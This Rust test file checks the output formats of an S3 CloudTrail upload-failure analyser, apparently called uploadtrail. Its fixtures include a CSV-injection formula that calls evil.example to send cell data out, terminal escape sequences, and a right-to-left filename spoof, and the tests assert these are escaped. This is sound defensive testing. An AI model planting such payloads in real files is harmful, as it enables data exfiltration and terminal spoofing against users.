//! Every format carries the failures, the incomplete uploads and the notes; hostile strings
//! cannot reach the terminal or a spreadsheet as anything but text.

use serde_json::{Value, json};

use crate::synth::layout;
use crate::synth::records::{self, NO_SUCH_UPLOAD, Place, Who};
use crate::synth::rng::Rng;
use crate::synth::scenarios::{ACCOUNT, at};
use crate::util::{TestEnv, analyze_json, run, trail_args};

fn analyze(format: &str, extra: &[String]) -> String {
    let mut args = vec!["analyze".to_owned()];
    args.extend(extra.iter().cloned());
    args.extend(["--format".into(), format.into()]);
    let run = run(&args);
    assert_eq!(run.status, Some(0), "{}", run.stderr);
    run.stdout
}

#[test]
fn ndjson_has_each_failure_orphan_and_note_then_a_summary() {
    let report = analyze_json(&trail_args());
    let out = analyze("ndjson", &trail_args());
    let lines: Vec<Value> = out
        .lines()
        .map(|l| serde_json::from_str(l).expect("a JSON line"))
        .collect();
    let count = |kind: &str| lines.iter().filter(|l| l["type"] == kind).count();
    for (kind, list) in [("incident", "incidents"), ("failure", "failures")] {
        assert_eq!(count(kind), report[list].as_array().map_or(0, Vec::len));
    }
    // The incidents come first, in their order, as in the JSON answer.
    let incidents = report["incidents"].as_array().expect("incidents");
    for (line, incident) in lines.iter().zip(incidents) {
        assert_eq!(line["type"], "incident");
        assert_eq!(line["id"], incident["id"]);
        assert_eq!(line["summary"], incident["summary"]);
    }
    assert_eq!(
        count("orphan"),
        report["orphans"].as_array().map_or(0, Vec::len)
    );
    assert_eq!(
        count("note"),
        report["notes"].as_array().map_or(0, Vec::len)
    );
    let last = lines.last().expect("a summary line");
    assert_eq!(last["type"], "summary");
    assert_eq!(last["summary"], report["summary"]);
    assert_eq!(
        last["buckets_without_data_events"],
        report["buckets_without_data_events"]
    );
    let first_failure = &lines[incidents.len()];
    assert_eq!(first_failure["type"], "failure");
    assert_eq!(first_failure["cause"], report["failures"][0]["cause"]);
    assert_eq!(first_failure["incident"], report["failures"][0]["incident"]);
}

#[test]
fn csv_has_a_row_per_failure_orphan_and_note() {
    let report = analyze_json(&trail_args());
    let out = analyze("csv", &trail_args());
    let rows: Vec<&str> = out.split("\r\n").filter(|r| !r.is_empty()).collect();
    assert!(
        rows[0].starts_with("record,time,operation,bucket,key,upload_id"),
        "{}",
        rows[0]
    );
    let count = |kind: &str| {
        rows.iter()
            .filter(|r| r.starts_with(&format!("{kind},")))
            .count()
    };
    for (kind, list) in [
        ("incident", "incidents"),
        ("failure", "failures"),
        ("orphan", "orphans"),
        ("note", "notes"),
    ] {
        assert_eq!(
            count(kind),
            report[list].as_array().map_or(0, Vec::len),
            "{kind}"
        );
    }
    assert!(out.contains("note,,,audit-logs,"), "{out}");
    // Each incident row names its id, in the order of the report.
    assert!(
        rows[0].contains(",incident,abort_kind,missing_evidence,"),
        "{}",
        rows[0]
    );
    let incident_rows = rows.iter().filter(|r| r.starts_with("incident,"));
    for (row, incident) in incident_rows.zip(report["incidents"].as_array().expect("incidents")) {
        assert!(
            row.contains(&format!(",{},", incident["id"].as_str().unwrap_or("?"))),
            "{row}"
        );
    }
}

#[test]
fn the_table_names_causes_orphans_and_quiet_buckets() {
    let out = analyze("table", &trail_args());
    for needle in [
        "uploadtrail: 39 NoSuchUpload failures in 29 incidents, 23 other failures, 5 incomplete uploads",
        "Read 329 files: 468 records from 2026-11-01 00:10:00 to 2026-11-12 19:28:00 UTC, 250 multipart\n  events, 1 duplicate removed.",
        "  lifecycle           4   a lifecycle rule made the upload eligible for abort first",
        "  superseded          4   another upload of the key was completed first",
        "Incidents (largest first)",
        "  I1    aborted (sweep): 4 failures, 3 uploads",
        "  … and 9 more incidents (all in --format json)",
        "Failures, by incident and upload",
        "fs.s3a.committer.abort.pending.uploads",
        "Incomplete uploads (8 parts, 572.0 MiB in all",
        "rule \"weekly-7d\": eligible from 2026-11-18 00:00:00 UTC",
        "No S3 data events for bucket \"audit-logs\" in the window",
    ] {
        assert!(out.contains(needle), "missing {needle:?} in\n{out}");
    }
}

/// A small trail whose key, user agent and session name are hostile.
#[test]
fn the_table_counts_in_words_when_nothing_was_found() {
    let env = TestEnv::new();
    let file = env.write("empty.json", r#"{"Records":[]}"#);
    let out = analyze("table", &[file]);
    for needle in [
        "uploadtrail: 0 NoSuchUpload failures, 0 other failures, 0 incomplete uploads\n",
        "Read 1 file: 0 records, 0 multipart events, 0 duplicates removed.\n",
    ] {
        assert!(out.contains(needle), "missing {needle:?} in\n{out}");
    }
}

pub fn hostile_trail(env: &TestEnv) -> (String, String, String) {
    let mut rng = Rng::new(3);
    let place = Place {
        account: ACCOUNT.into(),
        region: "us-east-1".into(),
    };
    let key = "=HYPERLINK(\"http://evil.example/?\"&A1)\u{1b}]0;owned\u{7}\u{202e}gpj.exe";
    let agent = "\u{1b}[2J\u{1b}[31mcleanup\u{200b}";
    let uploader = Who::role(ACCOUNT, "up", "s\u{1b}[1mession", "10.0.0.1", agent);
    let cleanup = Who::role(ACCOUNT, "cleanup", "c", "10.0.0.2", agent);
    let (id, other) = (rng.upload_id(), rng.upload_id());
    let recs = [
        records::create(
            &mut rng,
            at(3, 9, 0, 0),
            &place,
            &uploader,
            "b",
            key,
            Some(&id),
            None,
        ),
        records::call(
            &mut rng,
            at(3, 9, 5, 0),
            &place,
            &cleanup,
            "AbortMultipartUpload",
            "b",
            key,
            &id,
            None,
            0,
            None,
        ),
        records::call(
            &mut rng,
            at(3, 9, 6, 0),
            &place,
            &uploader,
            "UploadPart",
            "b",
            key,
            &id,
            Some(2),
            0,
            Some(NO_SUCH_UPLOAD),
        ),
        records::create(
            &mut rng,
            at(3, 9, 7, 0),
            &place,
            &uploader,
            "b",
            "-orphan\u{1b}[8m",
            Some(&other),
            None,
        ),
    ];
    let refs: Vec<_> = recs.iter().collect();
    env.write(
        "hostile.json.gz",
        layout::gzip(&layout::records_document(&refs)),
    );
    (
        env.path().display().to_string(),
        key.to_owned(),
        agent.to_owned(),
    )
}

fn assert_inert(out: &str, format: &str) {
    for c in out.chars() {
        let allowed = matches!(c, '\n' | '\r');
        assert!(
            allowed || !uploadtrail::report::escape::is_unsafe(c),
            "{format} output carries {c:?}:\n{out}"
        );
    }
}

#[test]
fn hostile_strings_are_inert_in_the_table() {
    let env = TestEnv::new();
    let (dir, ..) = hostile_trail(&env);
    let out = analyze("table", &[dir]);
    assert_inert(&out, "table");
    assert!(out.contains("\\u{1b}]0;owned"), "{out}");
    assert!(out.contains("\\u{202e}gpj.exe"), "{out}");
}

#[test]
fn hostile_strings_cannot_become_spreadsheet_formulas() {
    let env = TestEnv::new();
    let (dir, ..) = hostile_trail(&env);
    let out = analyze("csv", &[dir]);
    let failure = out
        .split("\r\n")
        .find(|r| r.starts_with("failure,"))
        .expect("a failure row");
    assert!(
        failure.contains(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1)"),
        "{failure}"
    );
    let orphan = out
        .split("\r\n")
        .find(|r| r.starts_with("orphan,"))
        .expect("an orphan row");
    assert!(orphan.contains(",'-orphan"), "{orphan}");
}

#[test]
fn json_keeps_hostile_strings_raw() {
    let env = TestEnv::new();
    let (dir, key, agent) = hostile_trail(&env);
    let report = analyze_json(&[dir]);
    let f = &report["failures"][0];
    assert_eq!(f["key"], key.as_str());
    assert_eq!(f["actor"]["user_agent"], agent.as_str());
    assert_eq!(f["cause"], "aborted");
}

#[test]
fn output_goes_to_a_file() {
    let env = TestEnv::new();
    let target = env.path().join("answer.json");
    let mut args = vec!["analyze".to_owned()];
    args.extend(trail_args());
    args.extend([
        "--format".into(),
        "json".into(),
        "--output".into(),
        target.display().to_string(),
    ]);
    let run = run(&args);
    assert_eq!(
        (run.status, run.stdout.as_str()),
        (Some(0), ""),
        "{}",
        run.stderr
    );
    let report: Value =
        serde_json::from_slice(&std::fs::read(&target).expect("the file")).expect("JSON");
    assert_eq!(report["schema_version"], 1);
    let story = crate::synth::scenarios::trail();
    assert_eq!(report["summary"]["failures"], story.expect.len());
}

#[test]
fn secrets_in_records_never_reach_the_output() {
    // A session token in responseElements (as AssumeRole and GetSessionToken answer) and a
    // presigned URL's credentials and signature in requestParameters.
    const TOKEN: &str = "IQoJb3JpZ2luX2VjSECRETSESSIONTOKENdoNotPrint";
    const SIGNATURE: &str = "d0e8f3c1SECRETSIGNATURE9a7b";
    const ACCESS_KEY: &str = "ASIASECRETACCESSKEYID";
    let env = TestEnv::new();
    let mut records: Vec<Value> = crate::synth::scenarios::small()
        .records
        .into_iter()
        .map(|r| r.json)
        .collect();
    for r in &mut records {
        if r["eventName"] == "UploadPart" {
            r["requestParameters"]["X-Amz-Signature"] = json!(SIGNATURE);
            r["requestParameters"]["X-Amz-Credential"] =
                json!(format!("{ACCESS_KEY}/20261103/us-east-1/s3/aws4_request"));
        }
        r["responseElements"] =
            json!({"credentials": {"accessKeyId": ACCESS_KEY, "sessionToken": TOKEN}});
    }
    // One record broken after the secrets, so that its problem is reported too.
    let mut text = json!({ "Records": records }).to_string();
    text.push_str(&format!(
        "\n{{\"Records\":[{{\"eventVersion\":\"1.09\",\"eventSource\":\"s3.amazonaws.com\",\"eventName\":\"UploadPart\",\"responseElements\":{{\"sessionToken\":\"{TOKEN}\"}},\"eventTime\":\"{TOKEN}\"}}]}}"
    ));
    env.write("secrets.json", text);
    for format in ["table", "json", "ndjson", "csv"] {
        let run = run(&[
            "analyze",
            &env.path().display().to_string(),
            "--format",
            format,
        ]);
        assert_eq!(run.status, Some(0), "{}", run.stderr);
        for secret in [TOKEN, SIGNATURE, ACCESS_KEY] {
            assert!(
                !run.stdout.contains(secret) && !run.stderr.contains(secret),
                "{format}: {secret} was printed:\n{}\n{}",
                run.stdout,
                run.stderr
            );
        }
    }
}

#[test]
fn hostile_file_names_and_values_are_escaped_in_warnings() {
    let env = TestEnv::new();
    env.write("evil\u{1b}]0;owned\u{7}.json", "not a log\u{1b}[2J at all");
    let mut records: Vec<Value> = crate::synth::scenarios::small()
        .records
        .into_iter()
        .map(|r| r.json)
        .collect();
    records[1]["eventTime"] = json!("\u{1b}[31m2026\u{202e}");
    env.write("times.json", json!({ "Records": records }).to_string());
    let run = run(&[
        "analyze",
        &env.path().display().to_string(),
        "--format",
        "json",
    ]);
    assert_eq!(run.status, Some(0), "{}", run.stderr);
    assert!(run.stderr.contains("warning"), "{}", run.stderr);
    assert_inert(&run.stderr, "stderr");
}
